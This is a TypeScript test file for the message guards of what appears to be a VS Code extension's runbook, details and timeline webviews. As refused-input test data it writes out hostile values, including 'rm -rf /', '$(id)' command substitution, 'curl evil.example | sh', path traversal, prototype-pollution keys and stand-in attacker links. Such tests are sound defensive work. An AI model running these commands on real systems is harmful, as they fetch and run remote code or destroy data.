import assert from 'node:assert/strict';
import { type FromDetails, parseFromDetails } from '../../src/protocol/details.ts';
import { type FromTimeline, parseFromTimeline } from '../../src/protocol/timeline.ts';
import { parseToHost, type ToHost } from '../../src/protocol/runbook.ts';
import { mutatedMessages } from './mutatedMessages.ts';

const sha256 = 'a'.repeat(64);
/** One good message of each kind; the compiler keeps it complete. */
const good: { readonly [T in ToHost['type']]: Extract<ToHost, { type: T }> } = {
  ready: { type: 'ready' },
  run: { type: 'run', id: 1, blockId: 'b-1', sha256, hiddenConfirmed: false },
  stop: { type: 'stop', id: 2, runId: 'r_1' },
  copy: { type: 'copy', id: 3, blockId: 'b-1' },
  tick: { type: 'tick', id: 4, checkId: 'c-1', checked: true },
  runSequence: { type: 'runSequence', id: 7, from: 'b-1', extent: 'section', sha256 },
  sequence: { type: 'sequence', id: 8, step: 'resume' },
  setVariable: { type: 'setVariable', id: 9, variable: 0 },
  forgetVariable: { type: 'forgetVariable', id: 15, variable: 0 },
  resetState: { type: 'resetState', id: 10 },
  showOutput: { type: 'showOutput', id: 11, runId: 'r_1' },
  copyOutput: { type: 'copyOutput', id: 12, runId: 'r_1' },
  showTerminal: { type: 'showTerminal', id: 13, runId: 'r_1' },
  chooseAnother: { type: 'chooseAnother', id: 14 },
  openLink: { type: 'openLink', id: 5, link: 0 },
  openSource: { type: 'openSource', id: 6, line: 12 },
};

describe('The guard for messages of the webview', () => {
  it('hands on a message of its own, which nobody can change any more', () => {
    const message = { ...good.run };
    const parsed = parseToHost(message);
    message.sha256 = 'b'.repeat(64);
    assert.deepEqual(parsed, good.run);
  });

  for (const message of Object.values(good)) {
    it(`lets “${message.type}” through as it is`, () => {
      assert.deepEqual(parseToHost(structuredClone(message)), message);
    });
  }

  const bad: readonly [string, unknown][] = [
    ['nothing', null],
    ['a text', 'run'],
    ['a list', [good.run]],
    ['another type', { type: 'exec', id: 1, command: 'rm -rf /' }],
    ['a type of the prototype', { type: 'constructor' }],
    ['a command beside the hash', { ...good.run, command: 'rm -rf /' }],
    ['a missing field', { type: 'run', id: 1, blockId: 'b-1', hiddenConfirmed: false }],
    ['a hash that is none', { ...good.run, sha256: 'A'.repeat(64) }],
    ['a block id that is a path', { ...good.run, blockId: '../../x' }],
    ['a confirmation that is no flag', { ...good.run, hiddenConfirmed: 'yes' }],
    ['an id that is no number', { ...good.copy, id: '3' }],
    ['an extent that there is none of', { ...good.runSequence, extent: 'everything' }],
    ['a step of a sequence that there is none of', { ...good.sequence, step: 'force' }],
    ['a value for a variable', { ...good.setVariable, value: '$(id)' }],
    ['a variable by its name', { ...good.forgetVariable, variable: 'PATH' }],
    ['a line that is no number', { ...good.openSource, line: Number.NaN }],
    ['a link below zero', { ...good.openLink, link: -1 }],
    ['fields of a prototype', Object.create({ ...good.stop }) as unknown],
    [
      'a field that is worked out when it is read',
      {
        ...good.stop,
        get runId() {
          return 'r_1';
        },
      },
    ],
    ['a hidden field', Object.defineProperty({ ...good.stop }, 'command', { value: 'id' })],
    ['a field under a symbol', { ...good.stop, [Symbol('command')]: 'id' }],
  ];
  for (const [name, message] of bad) {
    it(`refuses ${name}`, () => {
      assert.equal(parseToHost(message), null);
    });
  }

  it('takes nothing but the messages themselves out of mutations of them', () => {
    const values = [null, '', 'b-1', sha256, 0, -1, 1e99, true, {}, [], '__proto__', '$(id)', '../x'];
    const names = [
      'type',
      'id',
      'blockId',
      'sha256',
      'hiddenConfirmed',
      'runId',
      'checkId',
      'checked',
      'link',
      'line',
      'ms',
      'command',
      '__proto__',
    ];
    for (const [message, seed] of mutatedMessages(good, names, values)) {
      const parsed = parseToHost(message);
      if (parsed === null) continue;
      const model = good[parsed.type];
      assert.ok(model, `seed ${seed}`);
      assert.deepEqual(Object.keys(parsed).sort(), Object.keys(model).sort(), `seed ${seed}`);
      for (const [name, value] of Object.entries(parsed)) {
        assert.equal(typeof value, typeof model[name as keyof typeof model], `seed ${seed}: ${name}`);
        if (typeof value === 'string' && name !== 'sha256')
          assert.match(value, /^[\w-]{1,80}$/, `seed ${seed}`);
      }
    }
  });
});

const fromDetails: { readonly [T in FromDetails['type']]: Extract<FromDetails, { type: T }> } = {
  ready: { type: 'ready' },
  act: { type: 'act', id: 1, action: 'acknowledge' },
  copy: { type: 'copy', id: 2, copy: 0 },
  copyLog: { type: 'copyLog', id: 3 },
  open: { type: 'open', id: 4, open: 7 },
  retry: { type: 'retry', id: 5, part: 'alerts' },
  refresh: { type: 'refresh', id: 6 },
};

describe('The guard for messages of the details', () => {
  for (const message of Object.values(fromDetails)) {
    it(`lets “${message.type}” through as it is`, () => {
      assert.deepEqual(parseFromDetails(structuredClone(message)), message);
    });
  }

  const bad: readonly [string, unknown][] = [
    ['a command’s id', { ...fromDetails.act, action: 'onCall.acknowledge' }],
    ['a command of VS Code', { ...fromDetails.act, action: 'workbench.action.quit' }],
    ['an action of the prototype', { ...fromDetails.act, action: 'constructor' }],
    ['arguments beside the action', { ...fromDetails.act, args: ['x'] }],
    ['a text to copy', { ...fromDetails.copy, copy: 'curl evil.example | sh' }],
    ['a text beside the number', { ...fromDetails.copy, text: 'x' }],
    ['an address to open', { ...fromDetails.open, open: 'https://evil.example' }],
    ['a number below zero', { ...fromDetails.open, open: -1 }],
    ['half a number', { ...fromDetails.copy, copy: 0.5 }],
    ['a part of the prototype', { ...fromDetails.retry, part: '__proto__' }],
    ['a list as a part', { ...fromDetails.retry, part: ['alerts'] }],
    ['a run', good.run],
    ['a list', [fromDetails.act]],
    ['a type of a prototype', Object.create({ type: 'ready' }) as unknown],
  ];
  for (const [name, message] of bad) {
    it(`refuses ${name}`, () => assert.equal(parseFromDetails(message), null));
  }

  it('refuses a runbook’s messages, as a runbook refuses these', () => {
    for (const message of [good.stop, good.tick, good.openLink, good.openSource, good.copy])
      assert.equal(parseFromDetails(message), null);
    for (const { type, ...fields } of Object.values(fromDetails))
      if (type !== 'ready') assert.equal(parseToHost({ type, ...fields }), null);
  });

  it('takes nothing but the messages themselves out of mutations of them', () => {
    const values = [
      null,
      '',
      'acknowledge',
      'alerts',
      0,
      -1,
      1e99,
      NaN,
      true,
      {},
      [],
      '__proto__',
      'onCall.resolve',
    ];
    const names = ['type', 'id', 'action', 'copy', 'open', 'part', 'text', 'command', '__proto__'];
    const known = new Set(Object.values(fromDetails).map(message => Object.keys(message).sort().join()));
    for (const [message, seed] of mutatedMessages(fromDetails, names, values)) {
      const parsed = parseFromDetails(message);
      if (parsed === null) continue;
      assert.ok(known.has(Object.keys(parsed).sort().join()), `seed ${seed}`);
      const { type: _type, ...fields } = parsed;
      for (const [name, value] of Object.entries(fields)) {
        if (name === 'action') assert.equal(value, 'acknowledge', `seed ${seed}`);
        else if (name === 'part') assert.equal(value, 'alerts', `seed ${seed}`);
        else assert.ok(Number.isSafeInteger(value) && (value as number) >= 0, `seed ${seed}: ${name}`);
      }
    }
  });
});

const ulid = '0'.repeat(26);
const fromTimeline: { readonly [T in FromTimeline['type']]: Extract<FromTimeline, { readonly type: T }> } = {
  ready: { type: 'ready' },
  show: { type: 'show', from: 0, count: 200 },
  filter: {
    ...{ type: 'filter', id: 1, groups: ['notes'], people: [0, 3] },
    ...{ keyOnly: false, retracted: true, search: 'pool' },
  },
  write: { type: 'write', id: 2, text: '!roll back', pending: [1] },
  attach: { type: 'attach', id: 3, name: 'a.png', content: 'iVBORw==' },
  chooseFile: { type: 'chooseFile', id: 4 },
  detach: { type: 'detach', id: 5, pending: 1 },
  act: { type: 'act', id: 6, entry: ulid, action: 'retract' },
  editText: { type: 'editText', id: 7, entry: ulid, text: 'pool full' },
  editTime: { type: 'editTime', id: 8, entry: ulid, time: '10:15' },
  openLink: { type: 'openLink', id: 9, entry: ulid, link: 0 },
  openAttachment: { type: 'openAttachment', id: 10, entry: ulid, attachment: 0 },
  picture: { type: 'picture', id: 11, entry: ulid, attachment: 0 },
};

describe('What a timeline’s screen may say', () => {
  it('is taken as it is', () => {
    for (const message of Object.values(fromTimeline)) assert.deepEqual(parseFromTimeline(message), message);
  });

  it('is refused where a field is too much, too long, or of another kind', () => {
    const wrong: readonly unknown[] = [
      { ...fromTimeline.write, text: 'x'.repeat(100_001) },
      { ...fromTimeline.write, pending: Array.from({ length: 11 }, (_, number) => number) },
      { ...fromTimeline.write, pending: [-1] },
      { ...fromTimeline.write, pending: Object.assign([1], { more: 1 }) },
      { ...fromTimeline.write, at: '2026-11-22T10:15:00Z' },
      { ...fromTimeline.write, author: 'Grace' },
      { ...fromTimeline.show, count: 1_001 },
      { ...fromTimeline.show, from: -1 },
      { ...fromTimeline.filter, groups: ['secrets'] },
      { ...fromTimeline.filter, search: 'x'.repeat(201) },
      { ...fromTimeline.filter, people: 'all' },
      { ...fromTimeline.act, action: 'onCall.resolve' },
      { ...fromTimeline.act, entry: '../../x' },
      { ...fromTimeline.openAttachment, attachment: 'attachments/x' },
      { ...fromTimeline.openLink, link: 'https://evil.example' },
      { ...fromTimeline.picture, entry: 7 },
      { type: 'openLink', id: 1, href: 'https://evil.example' },
    ];
    for (const message of wrong)
      assert.equal(parseFromTimeline(message), null, JSON.stringify(message).slice(0, 100));
  });

  it('is what was looked at: a list that answers differently the second time is not taken', () => {
    let looks = 0;
    const people: unknown[] = [];
    Object.defineProperty(people, 0, { enumerable: true, get: () => (looks++ ? 'evil' : 1) });
    assert.equal(parseFromTimeline({ ...fromTimeline.filter, people }), null);
    const proxied = new Proxy([1], {
      get: (target, name) => (name === '0' ? 'evil' : (Reflect.get(target, name) as unknown)),
    });
    const parsed = parseFromTimeline({ ...fromTimeline.filter, people: proxied });
    assert.deepEqual(parsed && 'people' in parsed && parsed.people, [1]);
  });

  it('gives nothing but such messages out of mutations of them', () => {
    const values = [
      null,
      '',
      'retract',
      0,
      -1,
      1e99,
      NaN,
      true,
      {},
      [],
      [0],
      ['notes'],
      '__proto__',
      'onCall.resolve',
    ];
    const names = [
      'type',
      'id',
      'entry',
      'action',
      'text',
      'people',
      'groups',
      'pending',
      'content',
      '__proto__',
    ];
    for (const [message, seed] of mutatedMessages(fromTimeline, names, values)) {
      const parsed = parseFromTimeline(message);
      if (parsed === null) continue;
      const like = fromTimeline[parsed.type];
      assert.deepEqual(Object.keys(parsed).sort(), Object.keys(like).sort(), `seed ${seed}`);
      for (const [name, value] of Object.entries(parsed)) {
        assert.equal(typeof value, typeof like[name as keyof typeof like], `seed ${seed}: ${name}`);
      }
    }
  });
});
